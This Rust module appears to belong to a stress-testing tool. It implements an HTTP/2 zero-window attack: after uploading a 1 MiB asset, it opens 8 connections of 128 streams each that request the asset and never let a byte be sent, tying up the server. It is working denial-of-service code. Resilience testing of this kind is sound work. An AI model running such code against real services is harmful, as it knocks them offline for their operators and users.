//! Streams of HTTP/2 that ask for a file and let no byte of it be sent.

use std::io;

use async_trait::async_trait;
use serde_json::Value;

use super::lane::{End, Lane};
use super::wire::{Streams, ask, owned};
use super::{Strike, Target};
use crate::{Form, Request};

/// Connections, and the streams that a server lets one have.
const LANES: usize = 8;
const STREAMS: usize = 128;

/// The file: more than a server reads ahead.
const BYTES: usize = 1 << 20;

pub(super) struct ZeroWindow {
    target: Target,
    /// The content as the account asks for it, and the signed link, which needs no credential.
    content: Request,
    link: Request,
}

impl ZeroWindow {
    pub(super) async fn prepare(target: &Target) -> io::Result<Self> {
        let form = Form::new()
            .field("content_type", "application/octet-stream")
            .field("file_path", "held.bin")
            .file("file", "held.bin", &vec![7; BYTES]);
        let upload = Request::new("POST", "/api/v2/assets")
            .header("Content-Type", &Form::content_type())
            .body(form.body());
        let answer = ask(target, upload).await?;
        let asset: Value = serde_json::from_slice(&answer.body)?;
        let text = |name: &str| {
            let text = asset[name].as_str().map(str::to_owned);
            text.ok_or_else(|| io::Error::other(format!("no {name} in {asset}")))
        };
        let (id, url) = (text("id")?, text("url")?);
        let path = url.find("/signed/").map(|at| &url[at..]);
        let path = path.ok_or_else(|| io::Error::other(format!("{url} is no signed link")))?;
        let content = Request::get(&format!("/api/v2/assets/{id}/content"));
        Ok(Self {
            target: target.clone(),
            content: owned(target, content),
            link: Request::get(path),
        })
    }
}

#[async_trait]
impl Strike for ZeroWindow {
    fn lanes(&self) -> usize {
        LANES
    }

    fn refusals(&self) -> &'static [(u16, &'static str)] {
        &[(429, ""), (503, "")]
    }

    fn answers(&self) -> &'static [u16] {
        &[]
    }

    async fn occupy(&self) -> io::Result<()> {
        Ok(())
    }

    async fn strike(&self, lane: &Lane) -> io::Result<End> {
        let request = match lane.number % 2 {
            0 => &self.link,
            _ => &self.content,
        };
        let streams = Streams {
            requests: std::slice::from_ref(request),
            count: STREAMS,
            window: 0,
            from_head: true,
        };
        streams.keep(&self.target, lane).await
    }
}
